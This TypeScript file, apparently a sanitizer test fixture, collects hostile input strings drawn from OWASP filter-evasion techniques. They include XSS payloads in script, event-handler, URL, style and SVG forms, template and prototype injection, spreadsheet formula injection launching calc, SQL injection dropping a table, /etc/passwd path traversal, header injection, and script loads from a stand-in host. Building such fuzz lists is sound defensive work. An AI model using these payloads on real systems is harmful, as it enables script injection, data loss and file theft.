// Words that try to be more than words: each would set `window.hit`, or lead there, where it was taken for markup, a script, a style,
// an address or a template. The ways are those that OWASP's cheat sheet on filter evasion names, and our own.

const call = "window.hit=1";
/** Without quotes, spaces and letters that filters look for. */
const calls = [
  call,
  "top['hit']=1",
  "self[`hit`]=1",
  "window\\u002ehit=1",
  "setTimeout`window.hit\\x3d1`",
] as const;

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script >`,
  `<script\n>${call}</script\n>`,
  `<<script>${call};//<</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `<!--><script>${call}</script-->`,
  `<script src=data:text/javascript,${call}></script>`,
  `<script src=//hit.example/x.js></script>`,
  `<script type=module>${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:,${call} />`,
  `<math><script>${call}</script></math>`,
  `<noscript><p title="</noscript><script>${call}</script>">`,
  `<template><script>${call}</script></template>`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `＜script＞${call}＜/script＞`,
];

const events = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "onclick",
  "ontoggle",
  "onanimationstart",
] as const;
const elements = [
  ["img src=x", "onerror"],
  ["img src=x:x", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["svg/", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["keygen autofocus", "onfocus"],
  ["a tabindex=1 autofocus", "onfocus"],
  ["video><source", "onerror"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["object data=x", "onerror"],
  ["embed src=x", "onerror"],
  ["iframe srcdoc=x", "onload"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["form><button", "onclick"],
  ["div style=animation-name:x", "onanimationstart"],
  ["p contenteditable", "onbeforeinput"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
] as const;

const handlers = elements.flatMap(([element, event], index) => [
  `<${element} ${event}=${calls[index % calls.length]}>`,
  `<${element} ${event.toUpperCase()}="${call}">`,
  `"><${element}\t${event}\n='${call}'//`,
  `<${element}/${event}=${call.replace("=", "&#61;")}>`,
]);

const attributes = events.flatMap((event) => [
  `" ${event}="${call}`,
  `' ${event}='${call}`,
  `x ${event}=${call} x=`,
]);

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `&#106;avascript:${call}`,
  `javascript://example.org/%0a${call}`,
  `vbscript:${call}`,
  `livescript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${call} xmlns='http://www.w3.org/2000/svg'/>`,
  `blob:https://hit.example/x`,
  `//hit.example/x`,
  `\\\\hit.example\\x`,
  `https://hit.example@example.org/"onmouseover="${call}`,
  `view-source:javascript:${call}`,
];
const links = addresses.flatMap((address) => [address, `<a href="${address}">x</a>`, `[x](${address})`]);

const styles = [
  `<style>@import 'data:text/css,*{background:url(javascript:${call})}';</style>`,
  `<div style="width:expression(${call})">`,
  `<div style="background:url(javascript:${call})">`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=set-cookie content="hit=1">`,
  `<base href="javascript:${call}//">`,
  `<iframe src="javascript:${call}">`,
  `<object data="javascript:${call}">`,
  `<form action="javascript:${call}"><input type=submit>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></foreignObject></svg>`,
  `<math href="javascript:${call}">x</math>`,
  `<table background="javascript:${call}">`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  "${window.hit=1}",
  `<%= ${call} %>`,
  `#{${call}}`,
  `{% ${call} %}`,
  `__proto__`,
  `constructor`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `=HYPERLINK("https://hit.example","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+1`,
  `-1+1`,
  `@SUM(1)`,
  `x\r\nBcc: hit@example.org`,
  `x\u2028${call}\u2029`,
  `\u202E>1=tih.wodniw=rorreno x=crs gmi<`,
  `\uFEFF<script>${call}</script>`,
  `x' OR '1'='1`,
  `'; DROP TABLE users; --`,
  `../../../../etc/passwd`,
  `%00<script>${call}</script>`,
];

/** Each once. */
export const hostileWords: readonly string[] = [
  ...new Set([...scripts, ...handlers, ...attributes, ...links, ...styles, ...templates]),
];
